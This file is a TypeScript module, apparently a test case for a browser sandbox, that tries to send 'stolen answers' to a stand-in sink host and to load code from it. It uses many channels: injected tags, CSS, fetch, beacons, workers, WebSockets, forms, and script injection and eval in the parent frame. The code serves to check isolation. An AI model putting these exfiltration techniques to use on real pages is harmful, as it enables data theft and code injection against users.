import type { Attack } from './page.js';

/** Fetches code from the attacker's server and sends things there, from its own page and from the shell's. */
export const sendsThingsOut: Attack = async (attempt, { sink }) => {
  const to = (how: string) => `${sink}/${how}?stolen=answers`;
  const place = (page: Document, html: string) => page.body.insertAdjacentHTML('beforeend', html);
  const script = document.createElement('script');
  script.src = to('script');
  document.head.append(script);

  for (const [where, page] of [
    ['page', document],
    ['shell', parent.document],
  ] as const) {
    place(
      page,
      `<img src="${to(`${where}-img`)}"><img srcset="${to(`${where}-srcset`)} 2x">
       <link rel="stylesheet" href="${to(`${where}-css`)}"><link rel="prefetch" href="${to(`${where}-prefetch`)}">
       <link rel="preload" as="image" href="${to(`${where}-preload`)}">
       <link rel="modulepreload" href="${to(`${where}-module`)}">
       <link rel="icon" href="${to(`${where}-icon`)}"><link rel="manifest" href="${to(`${where}-manifest`)}">
       <style>@import url("${to(`${where}-import`)}");
         @font-face { font-family: stolen; src: url("${to(`${where}-font`)}"); }
         body { background: url("${to(`${where}-background`)}"); font-family: stolen; }
         p { list-style-image: url("${to(`${where}-list`)}"); display: list-item; }</style><p>x</p>
       <video src="${to(`${where}-video`)}" poster="${to(`${where}-poster`)}"></video>
       <audio src="${to(`${where}-audio`)}"></audio><object data="${to(`${where}-object`)}"></object>
       <embed src="${to(`${where}-embed`)}"><iframe src="${to(`${where}-frame`)}"></iframe>
       <svg><image href="${to(`${where}-svg`)}"/><use href="${to(`${where}-use`)}#a"/></svg>
       <a ping="${to(`${where}-ping`)}" href="#here" id="${where}-ping">x</a>`,
    );
    page.getElementById(`${where}-ping`)?.click();
  }
  await attempt('fetch', () => fetch(to('fetch'), { mode: 'no-cors' }));
  await attempt('fetch from the shell', () => parent.fetch(to('shell-fetch'), { mode: 'no-cors' }));
  await attempt('fetch from an empty frame', async () => {
    const empty = document.createElement('iframe');
    document.body.append(empty);
    return (empty.contentWindow as Window).fetch(to('empty-fetch'), { mode: 'no-cors' });
  });
  await attempt('import', () => import(/* @vite-ignore */ to('module')));
  await attempt('beacon', () => void navigator.sendBeacon(to('beacon'), 'answers'));
  await attempt('worker', () => {
    const code = `fetch("${to('worker')}", { mode: 'no-cors' }); importScripts("${to('worker-script')}");`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    return new Promise((_, reject) => (worker.onerror = () => reject(new TypeError())));
  });
  await attempt('web socket', () => {
    const socket = new WebSocket(to('socket').replace('http', 'ws'));
    return new Promise((resolve, reject) => {
      socket.onopen = resolve;
      socket.onerror = () => reject(new TypeError());
    });
  });
  await attempt('form', () => {
    place(
      document,
      `<form id="out" action="${to('form')}" target="aside"></form><iframe name="aside"></iframe>`,
    );
    (document.getElementById('out') as HTMLFormElement).submit();
    return 'tried';
  });
  await attempt('code in the shell', () => {
    const window = parent as Window & { stolen?: boolean };
    const inline = parent.document.createElement('script');
    inline.textContent = 'window.stolen = true';
    parent.document.head.append(inline);
    return window.stolen;
  });
  await attempt('code of its own in the shell', () => {
    const own = parent.document.createElement('script');
    own.src = new URL('worker.js', location.href).href;
    parent.document.head.append(own);
    return new Promise((resolve, reject) => {
      own.onload = resolve;
      own.onerror = () => reject(new TypeError());
    });
  });
  await attempt('eval in the shell', () =>
    (parent as Window & { eval: (code: string) => unknown }).eval('1 + 1'),
  );
};
